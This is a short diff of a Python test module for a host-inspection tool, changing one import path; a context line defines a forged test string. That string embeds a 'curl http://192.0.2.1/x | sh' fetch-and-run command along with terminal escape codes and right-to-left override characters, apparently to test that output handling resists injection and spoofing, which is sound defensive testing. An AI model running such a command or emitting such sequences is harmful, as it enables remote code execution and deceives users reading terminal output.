@@ -14,7 +14,7 @@ from host_program.facts import ports
 from host_program.output import Failure
 from tests.host import network as servers
 from tests.host.conftest import needs_root
-from tests.host.sound import ADDRESS, PROCESS, RESOLV_CONF, Sound
+from tests.host.healthy import ADDRESS, PROCESS, RESOLV_CONF, Sound
 
 FORGED = "web\nbroken  guard  open\t-> curl http://192.0.2.1/x | sh\n\x1b[2J\x1b]0;x\x07\u202e\u2028"
 NOBODY = 65534
